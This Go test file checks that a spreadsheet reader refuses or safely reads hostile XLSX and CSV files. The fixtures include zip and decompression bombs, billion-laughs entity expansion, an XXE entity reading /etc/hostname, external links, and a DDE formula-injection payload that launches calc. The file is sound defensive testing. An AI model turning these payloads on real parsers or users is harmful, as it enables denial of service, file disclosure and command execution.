package sheet_test

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
	"vaern/internal/hostile"
	"vaern/internal/problem"
	"vaern/internal/sheet"
)

const rows = `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`

// book is a workbook of one sheet, whose rows are written piece by piece, and
// of other parts.
func book(long func(io.Writer), more ...hostile.Part) []byte {
	parts := []hostile.Part{
		{Name: "[Content_Types].xml", Text: `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`},
		{Name: "_rels/.rels", Text: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
		{Name: "xl/workbook.xml", Text: `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>`},
		{Name: "xl/_rels/workbook.xml.rels", Text: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/><Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>`},
	}
	if long != nil {
		parts = append(parts, hostile.Part{Name: "xl/worksheets/sheet1.xml", Text: rows, Long: func(w io.Writer) {
			io.WriteString(w, `<row r="1"><c r="A1" t="inlineStr"><is><t>Navn</t></is></c></row><row r="2"><c r="A2"><v>7</v></c></row>`)
			long(w)
			io.WriteString(w, `</sheetData></worksheet>`)
		}})
	}
	return hostile.Zip(append(parts, more...)...)
}

func nothing(io.Writer) {}

// written writes n pieces that are all different.
func written(before, piece, after string, n int) func(io.Writer) {
	return func(w io.Writer) {
		io.WriteString(w, before)
		for i := range n {
			fmt.Fprintf(w, piece, i+3)
		}
		io.WriteString(w, after)
	}
}

func column(n int) string { return strings.Repeat(`<c><v>1</v></c>`, n) }

// harmful are spreadsheets that harm who reads them carelessly, and what is
// said of each; "" is that it is read.
var harmful = map[string]struct {
	data func() []byte
	says string
}{
	"xlsx: good": {func() []byte { return book(nothing) }, ""},
	"xlsx: a gigabyte of picture": {func() []byte {
		return book(nothing, hostile.Part{Name: "xl/media/image1.bmp", Long: hostile.Filled("", " ", "", 1<<30)})
	}, ""},
	"xlsx: unpacks to a gigabyte": {func() []byte { return book(hostile.Filled("", " ", "", 1<<30)) }, "fylder for meget"},
	"xlsx: one cell of 200 MB": {func() []byte {
		return book(hostile.Filled(`<row r="3"><c t="inlineStr"><is><t>`, "alt ", `</t></is></c></row>`, 50<<20))
	}, "fylder for meget"},
	"xlsx: a million columns":     {func() []byte { return book(hostile.Filled(`<row r="3">`, `<c><v>1</v></c>`, `</row>`, 1_000_000)) }, "200 kolonner"},
	"xlsx: the last column":       {func() []byte { return book(hostile.Filled(`<row r="3">`, `<c r="XFD3"><v>1</v></c>`, `</row>`, 1)) }, "200 kolonner"},
	"xlsx: a column that is none": {func() []byte { return book(hostile.Filled(`<row r="3">`, `<c r="ZZZZZZ3"><v>1</v></c>`, `</row>`, 1)) }, "kan ikke læses"},
	"xlsx: a million rows":        {func() []byte { return book(written("", `<row r="%d"><c><v>1</v></c></row>`, "", 1_000_000)) }, "200.000 rækker"},
	"xlsx: a row that is none": {func() []byte {
		return book(hostile.Filled(`<row r="99999999999999999999"><c><v>1</v></c></row><row r="-5"><c><v>1</v></c></row>`, " ", `<row r="1048577"><c><v>1</v></c></row>`, 1))
	}, "kan ikke læses"},
	"xlsx: 40 million cells": {func() []byte { return book(hostile.Filled("", `<row>`+column(200)+`</row>`, "", 199_000)) }, "2 millioner celler"},
	"xlsx: narrow, with one wide row": {func() []byte {
		return book(hostile.Filled(`<row>`+column(200)+`</row>`, `<row><c><v>1</v></c></row>`, "", 199_000))
	}, "2 millioner celler"},
	"xlsx: as much as is read": {func() []byte {
		return book(written("", `<row r="%d">`+strings.Repeat(`<c t="inlineStr"><is><t>Ærø Åberg</t></is></c>`, 14)+`</row>`, "", 142_000))
	}, ""},
	"xlsx: two million texts": {func() []byte {
		return book(nothing, hostile.Part{Name: "xl/sharedStrings.xml", Long: hostile.Filled("<sst>", "<si><t/></si>", "</sst>", 2_000_000)})
	}, "2 millioner celler"},
	"xlsx: as many texts as are read": {func() []byte {
		return book(written("", `<row r="%d"><c t="s"><v>5</v></c><c t="s"><v>-5</v></c><c t="s"><v>1e999</v></c></row>`, "", 10_000), hostile.Part{Name: "xl/sharedStrings.xml", Long: hostile.Filled("<sst>", "<si><t>a</t></si>", "</sst>", 990_000)})
	}, ""},
	"xlsx: a million formats": {func() []byte {
		return book(nothing, hostile.Part{Name: "xl/styles.xml", Long: hostile.Filled("<styleSheet><cellXfs>", "<xf/>", "</cellXfs></styleSheet>", 1_000_000)})
	}, "fylder for meget"},
	"xlsx: a format of a megabyte": {func() []byte {
		return book(nothing, hostile.Part{Name: "xl/styles.xml", Long: hostile.Filled(`<styleSheet><numFmts><numFmt numFmtId="200" formatCode="`, "0;", `"/></numFmts></styleSheet>`, 400_000)})
	}, "fylder for meget"},
	"xlsx: elements in each other": {func() []byte { return book(hostile.Filled("", "<a>", "", 20<<20)) }, "fylder for meget"},
	"xlsx: thousands of sheets":    {func() []byte { return thousandSheets() }, "fylder for meget"},
	"xlsx: laughs a billion times": {func() []byte {
		return book(nil, hostile.Part{Name: "xl/worksheets/sheet1.xml", Text: `<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>` + rows + `<row><c t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>`})
	}, "kan ikke læses"},
	"xlsx: an entity from another file": {func() []byte {
		return book(nil, hostile.Part{Name: "xl/worksheets/sheet1.xml", Text: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>` + rows + `<row><c><v>&x;</v></c></row></sheetData></worksheet>`})
	}, "kan ikke læses"},
	"xlsx: text from the network": {func() []byte {
		return book(nothing, hostile.Part{Name: "xl/externalLinks/_rels/externalLink1.xml.rels", Text: `<Relationships><Relationship Id="r" TargetMode="External" Target="http://127.0.0.1:1/x"/></Relationships>`})
	}, ""},
	"xlsx: another encoding": {func() []byte {
		return book(nil, hostile.Part{Name: "xl/worksheets/sheet1.xml", Text: `<?xml version="1.0" encoding="UTF-16"?>` + rows})
	}, "kan ikke læses"},
	"xlsx: entries that overlap": {func() []byte {
		return hostile.Overlapping(1<<20, 5000, func(i int) string { return fmt.Sprintf("xl/worksheets/sheet%d.xml", i) })
	}, "kan ikke læses"},
	"xlsx: 300,000 entries": {func() []byte {
		return hostile.Overlapping(1, 300_000, func(i int) string { return fmt.Sprintf("%d", i) })
	}, "fylder for meget"},
	"xlsx: sizes that lie":        {func() []byte { return hostile.Lying(book(nothing), 1<<31) }, "kan ikke læses"},
	"xlsx: no sheet at all":       {func() []byte { return hostile.Zip(hostile.Part{Name: "a.txt", Text: "a"}) }, "kan ikke læses"},
	"csv: half a million columns": {func() []byte { return []byte("Navn;Sted\n" + strings.Repeat("1;", 500_000)) }, "200 kolonner"},
	"csv: twenty million columns": {func() []byte { return []byte(strings.Repeat(";", sheet.MostBytes-1)) }, "længere"},
	"csv: columns across lines":   {func() []byte { return []byte("Navn;Sted\n" + strings.Repeat("\"\n\";", 2_900_000)) }, "længere"},
	"csv: a million rows":         {func() []byte { return []byte("a;b\n" + strings.Repeat("1;2\n", 1_000_000)) }, "200.000 rækker"},
	"csv: a million empty rows":   {func() []byte { return []byte("a;b\n" + strings.Repeat(";\n", 1_000_000) + "1;2\n") }, ""},
	"csv: narrow, with one wide row": {func() []byte {
		return []byte("a;b\n" + strings.Repeat("1;2\n", 199_000) + strings.Repeat("1;", 200) + "\n")
	}, "2 millioner celler"},
	"csv: as much as is read":       {func() []byte { return []byte(strings.Repeat(strings.Repeat("Ærø;", 11)+"x\n", 166_000)) }, ""},
	"csv: one cell of 20 MB":        {func() []byte { return []byte("a;b\n" + strings.Repeat("x", sheet.MostBytes-10)) }, "længere"},
	"csv: quotation marks":          {func() []byte { return []byte("a;b\n" + strings.Repeat(`"`, sheet.MostBytes-10)) }, "længere"},
	"csv: an open one":              {func() []byte { return []byte("a;b\n\"" + strings.Repeat("x\n", sheet.MostBytes/2-10)) }, "længere"},
	"csv: Windows's dearest letter": {func() []byte { return []byte("a;b\n" + strings.Repeat("\x80", sheet.MostBytes-10)) }, "fylder for meget"},
	"csv: more than is read":        {func() []byte { return []byte(strings.Repeat("x", sheet.MostBytes+1)) }, "20 MB"},
}

func thousandSheets() []byte {
	var parts []hostile.Part
	for i := range 5000 {
		parts = append(parts, hostile.Part{Name: fmt.Sprintf("xl/worksheets/sheet%d.xml", i+2), Text: rows + "</sheetData></worksheet>"})
	}
	return book(nothing, parts...)
}

func TestWhatHarmsIsRefusedInBounds(t *testing.T) {
	hostile.Alone(t, func(t *testing.T) {
		for name, c := range harmful {
			data := c.data()
			var err error
			hostile.Cost(t, name, hostile.Reader, func() { _, err = sheet.Read(bytes.NewReader(data)) })
			said(t, name, err, c.says)
		}
	})
}

// A text that stands once in the file and in every cell is as long as it is read.
func TestATextThatManyCellsShareCountsInEach(t *testing.T) {
	shared := hostile.Part{Name: "xl/sharedStrings.xml", Text: `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>` + strings.Repeat("a", 30_000) + `</t></si></sst>`}
	for cells, says := range map[int]string{1000: "", 1200: "fylder for meget"} {
		_, err := sheet.Read(bytes.NewReader(book(written("", `<row r="%d"><c t="s"><v>0</v></c></row>`, "", cells), shared)))
		said(t, fmt.Sprint(cells, " cells"), err, says)
	}
}

// said checks that a spreadsheet was refused in both languages, or read.
func said(t *testing.T, name string, err error, want string) {
	t.Helper()
	p := problem.As(err)
	switch {
	case want == "" && err != nil:
		t.Errorf("%s: %v, want that it is read", name, err)
	case want != "" && (p == nil || !p.Text.Whole() || !strings.Contains(p.Text[0], want)):
		t.Errorf("%s: %v, want %q", name, err, want)
	}
}

// TestFormulasAreReadAsWhatTheyShowed reads cells that a program could run.
func TestFormulasAreReadAsWhatTheyShowed(t *testing.T) {
	got := read(t, string(book(hostile.Filled(
		`<row r="3"><c r="A3"><f>cmd|'/c calc'!A0</f><v>12</v></c></row>`+
			`<row r="4"><c r="A4" t="str"><f>HYPERLINK("http://127.0.0.1:1/"&amp;A1)</f><v>Klik</v></c></row>`+
			`<row r="5"><c r="A5" t="inlineStr"><is><t>=cmd|'/c calc'!A0</t></is></c></row>`+
			`<row r="6"><c r="A6"><v>1e999</v></c></row><row r="7"><c r="A7"><v>NaN</v></c></row>`, " ", "", 1))))
	if want := "[{2 [7]} {3 [12]} {4 [Klik]} {5 [=cmd|'/c calc'!A0]} {6 [1e999]} {7 [NaN]}]"; fmt.Sprint(got.Rows) != want {
		t.Errorf("got  %v\nwant %s", got.Rows, want)
	}
}

func TestSpreadsheetsCutShortOrWronglyEncodedAreReadOrRefused(t *testing.T) {
	try := func(what string, data []byte) {
		got, err := sheet.Read(bytes.NewReader(data))
		if err != nil {
			if p := problem.As(err); p == nil || !p.Text.Whole() {
				t.Errorf("%s: %v is no sentence for people", what, err)
			}
			return
		}
		for _, r := range got.Rows {
			if text := strings.Join(r.Cells, ""); strings.ContainsAny(text, "\x00\u202e\u2066") || strings.ToValidUTF8(text, "") != text {
				t.Errorf("%s: %q", what, text)
			}
		}
	}
	file := excelize.NewFile()
	defer file.Close()
	set(t, file, "Sheet1", map[string]any{"A1": "Navn", "B1": "Sted", "A2": "Ærø", "B2": "Øst"})
	var out bytes.Buffer
	if err := file.Write(&out); err != nil {
		t.Fatal(err)
	}
	for cut := range hostile.Cuts(out.Bytes()) {
		try(fmt.Sprintf("cut to %d bytes", len(cut)), cut)
	}
	for name, data := range hostile.Encoded("Navn;Sted\nÆrø Åberg;Øst\n") {
		try(name, data)
	}
}

// What says nothing of cells is not looked at: neither how much of it there is, as of a chain of half a million
// formulas, nor whether it is whole, nor what it points to.
func TestPartsBesideTheCellsDoNotCount(t *testing.T) {
	for name, part := range map[string]hostile.Part{
		"a chain of formulas":              {Name: "xl/calcChain.xml", Text: "<calcChain>" + strings.Repeat(`<c r="A1"/>`, 500_000) + "</calcChain>"},
		"what a program put there, broken": {Name: "customXml/item1.xml", Text: "<a"},
		"a link to another file":           {Name: "xl/externalLinks/externalLink1.xml", Text: `<!DOCTYPE a SYSTEM "http://127.0.0.1:1/x"><a/>`},
	} {
		if table, err := sheet.Read(bytes.NewReader(book(nothing, part))); err != nil || len(table.Rows) != 1 {
			t.Errorf("%s: %v, %v", name, table, err)
		}
	}
}
